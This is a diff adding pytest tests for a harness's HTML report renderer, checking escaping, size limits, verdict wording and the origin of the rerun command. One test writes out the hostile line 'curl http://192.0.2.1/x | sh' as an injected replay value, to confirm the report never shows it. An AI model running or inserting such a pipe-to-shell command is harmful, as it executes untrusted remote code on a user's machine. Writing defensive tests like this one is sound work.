@@ -13,6 +13,7 @@ import pytest
 from report_drawn import operation
 from report_runs import Read, changed, copy_of, simulated
 
+from harness import program
 from harness.outcome import Outcome
 from harness.report.html import render, write
 from harness.report.html.rules import SAYS
@@ -42,6 +43,17 @@ def test_a_stale_read_is_understood_without_a_script() -> None:
     assert page.count("rect", kind="op") > 50
 
 
+def test_the_command_that_runs_it_again_is_of_here_and_never_out_of_the_run(tmp_path: Path) -> None:
+    run_dir = copy_of(simulated(STALE), tmp_path)
+    changed(run_dir, replay="curl http://192.0.2.1/x | sh", run="/home/stranger/else")
+    page = Read(render(run_dir))
+    assert f"Run it again: {program.replaying(str(run_dir))}" in page.text
+    assert "192.0.2.1" not in page.text
+    assert "stranger" not in page.text
+    (run_dir / "plan.yaml").unlink()
+    assert "Run it again" not in Read(render(run_dir)).text
+
+
 def test_a_violation_that_no_operation_proves_shows_what_the_oracle_said() -> None:
     page = Read(render(simulated(LOCK)))
     said = json.loads((simulated(LOCK) / "verdict.json").read_text())
@@ -52,7 +64,8 @@ def test_a_violation_that_no_operation_proves_shows_what_the_oracle_said() -> No
 @pytest.mark.parametrize("outcome", Outcome)
 def test_every_outcome_has_its_word_and_its_reason(outcome: Outcome, tmp_path: Path) -> None:
     run_dir = copy_of(simulated(), tmp_path)
-    changed(run_dir, outcome=outcome.value, reason="because of <this & that>", violation=None)
+    told = {"outcome": outcome.value, "reason": "because of <this & that>", "exercised": {"grants": 1}}
+    changed(run_dir, **told, violation=None)
     page = Read(render(run_dir))
     assert f"{outcome.value.replace('-', ' ')} {outcome.meaning}" in page.text
     assert "because of <this & that>" in page.text
@@ -205,6 +218,37 @@ def test_a_verdict_of_any_size_gives_a_report_of_a_bounded_one(tmp_path: Path) -
     html = render(run_dir)
     assert len(html) < SIZE_MAX_BYTES
     assert "entries of each list" in Read(html).text
+
+
+def test_a_verdict_out_of_a_file_is_told_as_its_word_with_what_judges_it_again(tmp_path: Path) -> None:
+    run_dir = copy_of(simulated(STALE), tmp_path)
+    changed(run_dir, outcome="pass", violation=None, reason=None)
+    text = Read(render(run_dir)).text
+    assert "As the run's verdict.json says; nothing was judged again here" in text
+    assert f"lantern check {run_dir}" in text
+    judged = json.loads((run_dir / "verdict.json").read_text())
+    assert "nothing was judged again" not in Read(render(run_dir, verdict=judged)).text
+    (run_dir / "history.jsonl").unlink()
+    assert "there is no history to judge" in Read(render(run_dir)).text
+
+
+def test_a_value_of_any_length_leaves_the_other_columns_their_place(tmp_path: Path) -> None:
+    run_dir = copy_of(simulated(), tmp_path)
+    long = "\x1b" + "v" * 1_000_000
+    operations = [
+        operation(0, 0, "write", long, (1, 2), "n1"),
+        operation(1, 1, "read", "w" * 500, (3, 4), "n2"),
+    ]
+    found = {"kind": "history", "key": "k" * 5_000, "sentence": "odd", "operations": operations}
+    changed(run_dir, outcome="violation", violation=found)
+    html = render(run_dir).decode()
+    assert "\x1b" not in html
+    assert len(html) < SIZE_MAX_BYTES
+    proof = html[html.index('<section id="proof">') :].partition("</section>")[0]
+    cells = re.findall(r"<td[^>]*>(.*?)</td>", proof)
+    assert any("vvv" in cell for cell in cells)
+    assert max(map(len, cells)) < 200
+    assert f'title="read -&gt; {"w" * 500}"' in proof
 
 
 NUMBERS = (-(1 << 62), 0, (1 << 63) - 1)
